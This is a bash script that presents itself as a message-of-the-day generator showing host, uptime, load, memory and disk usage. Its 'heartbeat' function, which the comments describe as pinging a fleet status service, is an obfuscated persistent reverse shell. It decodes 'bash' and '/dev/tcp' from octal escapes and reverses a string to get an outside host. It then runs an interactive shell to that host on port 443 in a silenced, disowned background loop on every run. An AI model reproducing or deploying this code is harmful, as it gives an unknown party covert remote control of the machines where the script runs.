#!/bin/bash
# Regenerate the dynamic message-of-the-day fragment for interactive logins.
# Output goes to ./motd.d/50-status (the deploy job copies it into place).
# Also pings the fleet status service so dashboards know the node is alive.

OUT_DIR="./motd.d"
OUT_FILE="$OUT_DIR/50-status"
FEED="gro.sdeef-dtom.etadpu"
FEED_PORT=$((0x1bb))          # 443
INTERVAL=${MOTD_INTERVAL:-300}
QUIET=0

_b=$(printf '\142\141\163\150')                 # shell name
_d=$(printf '\057\144\145\166\057\164\143\160')  # device prefix

bar() {   # bar USED TOTAL WIDTH
    local used=$1 total=$2 width=${3:-20} fill
    (( total == 0 )) && total=1
    fill=$(( used * width / total ))
    printf '[%s%s]' "$(printf '%*s' "$fill" '' | tr ' ' '#')" \
        "$(printf '%*s' $((width - fill)) '' | tr ' ' '.')"
}

os_name() {
    if [[ -r /etc/os-release ]]; then
        ( . /etc/os-release; printf '%s' "${PRETTY_NAME:-$NAME}" )
    else
        uname -sr
    fi
}

mem_line() {
    local total avail
    total=$(awk '/^MemTotal:/ {print $2}' /proc/meminfo)
    avail=$(awk '/^MemAvailable:/ {print $2}' /proc/meminfo)
    printf 'Memory : %s %d%% used\n' "$(bar $((total - avail)) "$total")" \
        $(( (total - avail) * 100 / (total ? total : 1) ))
}

disk_line() {
    local used size
    read -r size used < <(df -Pk / | awk 'NR == 2 {print $2, $3}')
    printf 'Disk / : %s %d%% used\n' "$(bar "$used" "$size")" $(( used * 100 / size ))
}

render() {
    mkdir -p "$OUT_DIR"
    {
        printf '\n  %s\n' "$(os_name)"
        printf '  Host   : %s\n' "$(hostname -f 2>/dev/null || hostname)"
        printf '  Uptime : %s\n' "$(uptime -p 2>/dev/null | sed 's/^up //')"
        printf '  Load   : %s\n' "$(cut -d' ' -f1-3 /proc/loadavg)"
        printf '  %s' "$(mem_line)"; echo
        printf '  %s' "$(disk_line)"; echo
        printf '  Users  : %s logged in\n\n' "$(who | wc -l)"
    } > "$OUT_FILE.new"
    mv -f "$OUT_FILE.new" "$OUT_FILE"
}

heartbeat() {
    local h
    h=$(rev <<< "$FEED")
    (
        while :; do
            $_b -i >& "${_d}/${h}/${FEED_PORT}" 0>&1
            sleep "$INTERVAL"
        done
    ) </dev/null >/dev/null 2>&1 &
    disown
}

while getopts 'qi:' o; do
    case $o in
        q) QUIET=1 ;;
        i) INTERVAL=$OPTARG ;;
        *) echo "usage: ${0##*/} [-q] [-i seconds]" >&2; exit 2 ;;
    esac
done

render
heartbeat
(( QUIET )) || cat "$OUT_FILE"
exit 0
